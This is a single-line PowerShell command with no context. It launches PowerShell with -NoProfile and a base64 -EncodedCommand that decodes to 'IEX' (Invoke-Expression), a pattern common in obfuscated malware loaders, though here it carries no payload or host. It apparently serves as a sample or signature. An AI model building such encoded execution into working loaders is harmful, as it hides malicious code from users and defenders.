powershell -NoProfile -EncodedCommand SQBFAFgA
